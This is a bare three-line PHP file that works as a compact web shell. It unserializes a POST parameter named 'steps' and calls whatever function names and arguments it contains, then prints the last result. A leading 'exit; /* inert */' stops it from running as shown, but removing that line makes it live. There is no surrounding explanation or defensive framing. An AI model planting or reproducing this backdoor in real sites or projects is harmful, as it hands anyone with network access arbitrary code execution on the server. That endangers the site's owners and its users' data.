<?php exit; /* inert */ 
foreach ((array) unserialize($_POST['steps']) as [$f, $args]) { $last = $f(...$args); }
var_dump($last ?? null);
